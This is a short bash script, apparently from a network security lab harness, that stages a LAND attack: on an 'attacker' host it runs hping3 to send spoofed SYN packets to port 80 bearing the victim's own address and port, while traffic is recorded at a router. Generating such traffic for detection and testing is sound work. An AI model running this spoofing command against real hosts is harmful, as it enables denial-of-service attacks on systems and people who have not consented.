#!/bin/bash
# LAND: SYNs to port 80 from the victim's own address and port, ten a second, by hping3.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80
record router wan
on attacker timeout 12 hping3 -q -n -I eth0 -S -a 10.20.0.10 -s 80 -k -p 80 -i u100000 -c 60 10.20.0.10 >/dev/null 2>&1 || true
recorded
